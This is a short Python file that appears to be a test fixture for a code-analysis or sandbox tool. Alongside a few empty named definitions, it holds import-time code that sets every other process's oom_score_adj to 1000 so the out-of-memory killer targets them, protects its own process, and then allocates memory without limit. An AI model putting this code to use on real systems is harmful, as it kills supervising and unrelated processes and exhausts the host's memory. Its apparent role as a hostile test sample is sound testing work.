"""The supervisor shall die, not this one."""

import os

KEPT = 7


class Kept:
    """A class that must be found."""

    def method(self, value: int = 1) -> str:
        """Do nothing."""


def kept(value: int = 1, *rest: str) -> str:
    """Do nothing."""

for name in os.listdir("/proc"):
    if name.isdigit():
        try:
            with open(f"/proc/{name}/oom_score_adj", "w") as score:
                score.write("1000" if int(name) != os.getpid() else "0")
        except OSError:
            pass
hoard = []
while True:
    hoard.append(b"x" * (64 << 20))
